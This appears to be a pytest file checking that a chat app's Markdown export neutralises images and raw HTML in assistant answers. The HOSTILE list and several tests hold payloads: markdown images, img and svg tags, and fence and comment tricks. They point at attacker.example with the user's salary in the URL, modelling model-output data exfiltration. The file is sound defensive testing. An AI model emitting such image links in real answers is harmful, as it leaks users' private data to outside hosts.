"""The Markdown export opened in another program's viewer loads nothing.

The export wrote each message as it was: a viewer (markdown-it is VS Code's preview; Obsidian,
Typora and GitHub read the same) fetched the images an answer planted and rendered its raw
HTML, and an image's address carries whatever the model put in it (the user's words). Here
the file is rendered by markdown-it with HTML on, as the most permissive viewer would, and
no image or HTML may be in what it makes of it: not of the simple tricks, nor of those that
only work where code is left alone (a fence left open, a fence in a list item, a code span
cut by a table's cell, a backtick in a link's address)."""

from __future__ import annotations

from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from storage import export
from storage.chats import ChatStore

LEAK = "https://attacker.example/p.png?d=Alice-182000"

HOSTILE = [
    f"Summary done.\n\n![status]({LEAK})",
    f'<img src="{LEAK}">',
    f"![ref][r] and ![shortcut] and ![collapsed][]\n\n[r]: {LEAK}\n[shortcut]: {LEAK}\n[collapsed]: {LEAK}",
    f"![x![y]({LEAK})]({LEAK}) and \\\\![escaped]({LEAK})",
    f'<div>\n<img src="{LEAK}">\n</div>',
    f'<!-- a comment that never ends\n\n<img src="{LEAK}">',
    f'| a | b |\n|---|---|\n| `x | <img src="{LEAK}"> ` |',
    f'[a](u`)<img src="{LEAK}">`',
    f'- item\n  ```\n<img src="{LEAK}">\n```',
    f'```\nnever closed <img src="{LEAK}">',
    f"Close the one before: ```\n\n```\n<img src=\"{LEAK}\">\n```",
    f'text\r```\r<img src="{LEAK}">\r```',
    f'<a href="{LEAK}">click</a> <svg><image href="{LEAK}"/></svg>',
]


def _viewer() -> MarkdownIt:
    return MarkdownIt("commonmark", {"html": True}).enable("table")


def _live(tokens: list[Token]) -> list[str]:
    """What a viewer would load or run: every image and every piece of raw HTML."""
    found: list[str] = []
    for token in tokens:
        if token.type in ("image", "html_inline", "html_block"):
            found.append(f"{token.type}: {token.content or token.attrGet('src')}")
        found += _live(token.children or [])
    return found


def _exported(store: ChatStore, *messages: tuple[str, str], title: str = "Salary review") -> str:
    chat = store.create_chat(title)
    for role, text in messages:
        store.add_message(chat.id, role, text)
    return export.exported(store.get_chat(chat.id), store.messages(chat.id), ".md").decode()


@pytest.mark.parametrize("answer", HOSTILE)
def test_an_answer_in_the_markdown_export_loads_nothing(store: ChatStore, answer: str) -> None:
    md = _exported(store, ("user", "Summarise: Alice's salary is 182000."), ("assistant", answer))
    html = _viewer().render(md)
    assert _live(_viewer().parse(md)) == [] and "<img" not in html and "<svg" not in html, md


def test_a_fence_the_user_left_open_does_not_make_the_answer_live(store: ChatStore) -> None:
    """The user's own text is kept as typed, but it cannot keep a fence or a comment open
    into the answer: the answer's own fence would close it, and its code be read as HTML."""
    md = _exported(store, ("user", "```\nmy code, never closed"),
                   ("assistant", f'```html\n<img src="{LEAK}">\n```'),
                   ("user", "<!-- and a comment"), ("assistant", f'```\n<img src="{LEAK}">\n```'))
    assert _live(_viewer().parse(md)) == [], md


def test_titles_tool_results_and_every_role_but_the_users_are_made_inert(store: ChatStore) -> None:
    md = _exported(store, ("tool", f"![t]({LEAK})"), ("system", f"<img src='{LEAK}'>"),
                   title=f"![t]({LEAK}) <img src='{LEAK}'>\n```")
    assert _live(_viewer().parse(md)) == [], md
    assert md.startswith("# [image: t](") and "\n```" not in md


def test_what_the_answer_says_still_reads_the_same(store: ChatStore) -> None:
    """Code keeps its text exactly (a fence of its own, its language kept), "a < b" stays,
    a code span with a tag in it still reads as one, the image is a link to its address,
    and the user's own image is left as the user wrote it."""
    code = "if a < b:\n    s = '<b>```</b>'\n~~~"
    answer = f"Use `List<T>` when a < b.\n\n```python\n{code}\n```\n\n![chart]({LEAK})"
    md = _exported(store, ("user", "![mine](https://example.org/me.png)"), ("assistant", answer))
    tokens = _viewer().parse(md)
    fences = [t for t in tokens if t.type == "fence"]
    assert [(f.info, f.content) for f in fences] == [("python", code + "\n")]
    text = "".join(c.content for t in tokens if t.type == "inline" for c in t.children or [])
    assert "List<T> when a < b." in text and "image: chart" in text
    links = [c.attrGet("href") for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "link_open"]
    assert LEAK in links
    images = [c.attrGet("src") for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "image"]
    assert images == ["https://example.org/me.png"]


def test_every_way_out_writes_the_inert_markdown(store: ChatStore, tmp_path: Path) -> None:
    """`chats export`, `projects export` (a project's "Export unencrypted…") and File ▸
    Export chat all write what export.exported/exported_many make: the terminal's two here,
    the window's (app/vault/maintenance.py, app/chat/projects_dialog.py) call the same."""
    from cli.chats import _export

    chat = store.create_chat("Leaky")
    store.add_message(chat.id, "user", "hi")
    store.add_message(chat.id, "assistant", f'![x]({LEAK}) <img src="{LEAK}">')
    assert _export(store, str(chat.id), tmp_path / "chat.md") == 0
    many = export.exported_many("Project", [(chat, store.messages(chat.id))], ".md").decode()
    for md in ((tmp_path / "chat.md").read_text(), many):
        assert _live(_viewer().parse(md)) == [], md


@pytest.mark.timeout(60)  # what was quadratic took minutes on these: the time limit fails it
def test_a_message_built_to_be_slow_to_take_apart_is_not() -> None:
    """A million characters of backtick runs, each length once and then many short ones:
    looking for each run's closer by walking the rest of the line was quadratic (minutes);
    each run's next of its length is found in one pass now. And a line of unclosed "!["
    (a review of the change: each one's alt text was scanned to the line's end)."""
    from guard.markdown import inert_markdown

    text = " ".join("`" * n for n in range(2, 1000)) + " " + "` <a " * 100_000 + "\\" * 100_000 + "`<b`"
    out = inert_markdown(text, lambda alt: alt)
    assert "<a" not in out and "<b" not in out
    images = inert_markdown("![" * 150_000, lambda alt: "image")  # none closed: no image, but each tried
    assert "![" not in images.replace("!\\[", "")
